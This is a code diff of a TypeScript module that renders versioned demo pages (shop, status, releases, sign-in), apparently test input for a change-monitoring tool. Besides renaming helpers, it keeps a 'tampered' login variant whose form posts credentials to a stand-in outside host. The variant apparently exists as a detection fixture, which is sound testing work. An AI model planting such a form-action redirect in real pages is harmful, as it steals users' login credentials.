@@ -1,11 +1,11 @@
 import { randomBytes, randomUUID } from "node:crypto";
 
-/** One page of the bundled site: each step of its story is a real change, each request brings new noise. */
+/** One page of the bundled site. Each version is a real change; each request adds new noise. */
 export type DemoPage = { path: string; name: string; render: (version: number) => string };
 
-const at = <T>(list: readonly T[], version: number): T => list[version % list.length] as T;
+const pick = <T>(list: readonly T[], version: number): T => list[version % list.length] as T;
 
-function frame(title: string, body: string, head = ""): string {
+function renderPage(title: string, body: string, head = ""): string {
   return `<!doctype html>
 <html lang="en">
 <head>
@@ -35,12 +35,12 @@ function shop(version: number): string {
     version % 4 >= 2
       ? "<li><h2>Ember stove</h2><p>Boils a litre in three minutes.</p><p class=price>119.00 €</p></li>"
       : "";
-  return frame(
+  return renderPage(
     "Spring collection",
     `<p>Everything for a weekend above the tree line. Free returns within 30 days.</p>
 <ul class="cards">
-<li><h2>Ridge tent</h2><p>Two persons, 1.9 kg, stands in a storm.</p><p class=price>${at(tent, version)}</p></li>
-<li><h2>Fjell lamp</h2><p>200 hours on one charge.</p><p class=price>${at(lamp, version)}</p></li>
+<li><h2>Ridge tent</h2><p>Two persons, 1.9 kg, stands in a storm.</p><p class=price>${pick(tent, version)}</p></li>
+<li><h2>Fjell lamp</h2><p>200 hours on one charge.</p><p class=price>${pick(lamp, version)}</p></li>
 <li><h2>Kvist cup</h2><p>Birch, made to be handed on.</p><p class=price>24.00 €</p></li>
 ${stove}
 </ul>
@@ -56,9 +56,9 @@ const incidents = [
 ];
 
 function status(version: number): string {
-  return frame(
+  return renderPage(
     "System status",
-    `${at(incidents, version)}
+    `${pick(incidents, version)}
 <table><tr><th>Shop</th><td>up</td></tr><tr><th>Search</th><td>up</td></tr>
 <tr><th>Payments</th><td>${version % 4 === 1 || version % 4 === 2 ? "degraded" : "up"}</td></tr></table>
 <p class="quiet">Updated ${1 + Math.floor(Math.random() * 50)} seconds ago.</p>`,
@@ -68,9 +68,9 @@ function status(version: number): string {
 function releases(version: number): string {
   const newest = 12 + (version % 40);
   const entries = Array.from({ length: 8 }, (_, i) => newest - i).map(
-    (minor) => `<article><h2>Version 4.${minor}</h2><p>${at(notes, minor)}</p></article>`,
+    (minor) => `<article><h2>Version 4.${minor}</h2><p>${pick(notes, minor)}</p></article>`,
   );
-  return frame("App releases", entries.join("\n"));
+  return renderPage("App releases", entries.join("\n"));
 }
 const notes = [
   "Maps load without a network.",
@@ -83,7 +83,7 @@ const notes = [
 function login(version: number): string {
   const isTampered = version % 3 === 1;
   const nonce = randomBytes(12).toString("base64");
-  return frame(
+  return renderPage(
     "Sign in",
     `<form action="${isTampered ? "https://halden-login.example/collect" : "/session"}" method="post">
 <input type="hidden" name="_csrf" value="${randomBytes(24).toString("base64url")}">
